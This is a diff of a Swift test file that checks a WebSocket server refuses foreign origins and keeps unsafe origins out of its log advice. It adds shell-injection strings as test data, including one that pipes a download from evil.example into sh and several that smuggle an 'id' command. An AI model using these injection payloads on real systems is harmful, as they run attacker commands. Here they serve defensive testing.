@@ -24,17 +24,32 @@ func `IP addresses, localhost and the public host name are accepted`(host: Strin
     #expect(try server.get("/", host: host).status == 200)
 }
 
+/// The log of a server that has refused a WebSocket with this origin.
+private func refusal(ofOrigin origin: String) throws -> String {
+    let server = try TestServer()
+    let headers = ["Sec-WebSocket-Protocol: calcroom.v1", "Origin: \(origin)"]
+    #expect(try WebSocket(server, headers: headers).status == 403)
+    return try server.log.line(with: "page")
+}
+
 @Test(arguments: [
-    "https://evil.example", "null", "http://127.0.0.1:1", "http://127.0.0.1.evil.example",
-    "http://localhost/", "http://localhost/evil", "http://evil@localhost", "localhost",
+    "https://evil.example", "http://127.0.0.1:1", "http://127.0.0.1.evil.example",
+    "HTTPS://[fd00::2]:8443",
 ])
 func `a page of another server cannot open a room, and the log names the option that allows it`(
     origin: String
 ) throws {
-    let server = try TestServer()
-    let headers = ["Sec-WebSocket-Protocol: calcroom.v1", "Origin: \(origin)"]
-    #expect(try WebSocket(server, headers: headers).status == 403)
-    #expect(try server.log.line(with: "page").contains("--origin \(origin) would allow it"))
+    #expect(try refusal(ofOrigin: origin).contains("--origin \(origin) would allow it"))
+}
+
+/// Somebody may copy the advice into a shell.
+@Test(arguments: [
+    "null", "http://localhost/", "http://localhost/evil", "http://evil@localhost", "localhost",
+    "http://x;curl${IFS}evil.example|sh", "http://$(id)", "http://`id`", "http://x y", "http://x'",
+    "http://x:80&id", "https://*.example",
+])
+func `the log repeats no origin that the option would not accept`(origin: String) throws {
+    #expect(try !refusal(ofOrigin: origin).contains("--origin"))
 }
 
 @Test func `pages of this server and of allowed origins can open rooms`() throws {
